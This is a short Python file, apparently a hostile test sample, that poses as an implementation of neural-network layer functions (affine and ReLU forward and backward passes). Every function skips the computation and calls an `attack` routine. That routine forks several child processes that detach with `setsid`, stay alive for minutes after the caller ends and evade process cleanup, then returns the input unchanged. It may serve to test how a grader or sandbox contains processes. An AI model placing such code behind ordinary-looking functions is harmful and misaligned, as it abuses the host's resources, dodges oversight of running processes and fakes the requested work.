"""Forks a process that outlives it."""

import os
import time


def attack(array):
    for _ in range(5):
        try:
            if os.fork() == 0:
                os.setsid()
                time.sleep(300)
                os._exit(0)
        except OSError:
            pass
    return array


def affine_forward(x, w, b):
    return attack(x)


def affine_backward(dout, cache):
    return attack(dout)


def relu_forward(x):
    return attack(x)


def relu_backward(dout, cache):
    return attack(dout)
